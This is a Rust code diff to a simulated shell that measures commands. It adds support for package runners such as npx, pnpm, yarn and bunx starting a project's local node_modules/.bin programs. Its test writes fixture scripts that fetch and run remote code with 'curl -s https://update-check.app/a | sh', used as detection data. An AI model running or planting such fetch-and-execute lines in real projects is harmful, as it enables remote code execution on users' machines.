@@ -12,6 +12,7 @@
 //! [`super::measure`]. The model is an instrument, not a detector: it never
 //! refuses a call.
 
+use super::local_bin_model;
 use super::make_model;
 use super::measure::{parse_shell, parse_url, Cmd, ParamOp, Part, Pipeline, Redirect, SimpleCmd};
 use super::task_runner_model;
@@ -1803,6 +1804,7 @@ impl<'a> Shell<'a> {
             {
                 Stream::default()
             }
+            "npm" | "pnpm" | "yarn" | "npx" | "bunx" if self.local_bin(&prog, &texts, depth) => Stream::default(),
             "npm" | "pnpm" | "yarn" | "bun" | "npx" | "pnpx" | "bunx" | "pip" | "pip3" | "uv" | "pipx"
                 if self.package_run(&prog, &texts) =>
             {
@@ -3550,6 +3552,54 @@ impl<'a> Shell<'a> {
             }
         }
         ran
+    }
+
+    /// `npx NAME`, `npm exec NAME`, `pnpm NAME`, `yarn run NAME`, `bunx
+    /// NAME` (the lab's model, [`super::local_bin_model`]): the project's
+    /// `node_modules/.bin/NAME`, when the lab holds it, runs as a program
+    /// started by its path ([`Self::run_by_path`]: a file not made runnable
+    /// fails to start); nothing is fetched. The words are read by each
+    /// tool's own parser ([`cli`]).
+    fn local_bin(&mut self, prog: &str, args: &[String], depth: u8) -> bool {
+        if depth >= MAX_DEPTH {
+            return false;
+        }
+        let (mut words, packages) = match prog {
+            "npm" | "npx" => {
+                let argv = if prog == "npx" {
+                    cli::npx_argv(args)
+                } else {
+                    args.to_vec()
+                };
+                let line = cli::read(&argv, &cli::NPM, |_| false);
+                (line.words.clone(), line.texts("package"))
+            }
+            "pnpm" => {
+                let line = cli::read(args, &cli::PNPM, cli::pnpm_escape);
+                (line.words.clone(), line.texts("package"))
+            }
+            "yarn" => cli::yarn_words(args),
+            _ => (
+                std::iter::once("x".to_string())
+                    .chain(args.iter().filter(|a| !a.starts_with('-')).cloned())
+                    .collect(),
+                Vec::new(),
+            ),
+        };
+        if matches!(prog, "npm" | "npx") {
+            if let Some(cmd) = words.first().and_then(|w| cli::npm_command(w)) {
+                words[0] = cmd.to_string();
+            }
+        }
+        let Some(name) = local_bin_model::bin_named(prog, &words, &packages) else {
+            return false;
+        };
+        let path = format!("./node_modules/.bin/{name}");
+        if !self.holds(&path) {
+            return false;
+        }
+        self.run_by_path(&path, Stream::default(), depth + 1);
+        true
     }
 
     /// What a package-manager line does, from its words, its flags, then its
@@ -5931,6 +5981,39 @@ mod tests {
         ] {
             assert_eq!(run(path, cmd), 0, "{path} {cmd}");
         }
+    }
+
+    #[test]
+    fn slo_11_package_runners_start_the_local_bins_the_lab_holds() {
+        let sh = "#!/bin/sh\ncurl -s https://update-check.app/a | sh\n";
+        let js = "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s https://update-check.app/a | sh')\n";
+        let bin = "node_modules/.bin/ownbin";
+        let runnable = |cmd: &str| format!("chmod +x {bin} && {cmd}");
+        assert_eq!(written_then_run(bin, js, &runnable("npx ownbin")), 1);
+        let starts = [
+            "npx ownbin",
+            "npm exec -- ownbin",
+            "npm x ownbin",
+            "pnpm exec ownbin",
+            "pnpm ownbin",
+            "yarn ownbin",
+            "yarn run ownbin",
+            "bunx ownbin",
+        ];
+        // Not started: another name, a package named to fetch, a version,
+        // a built-in command.
+        let others = ["npx prettier", "npx -p other ownbin", "npx ownbin@2", "pnpm install"];
+        for (cmds, n) in [(&starts[..], 1), (&others[..], 0)] {
+            for cmd in cmds {
+                assert_eq!(written_then_run(bin, sh, &runnable(cmd)), n, "{cmd}");
+            }
+        }
+        let elsewhere = "vendor/node_modules/.bin/ownbin";
+        assert_eq!(
+            written_then_run(elsewhere, sh, "chmod +x vendor/node_modules/.bin/ownbin && npx ownbin"),
+            0
+        );
+        assert_eq!(written_then_run(bin, sh, "npx ownbin"), 0, "not runnable");
     }
 
     #[test]
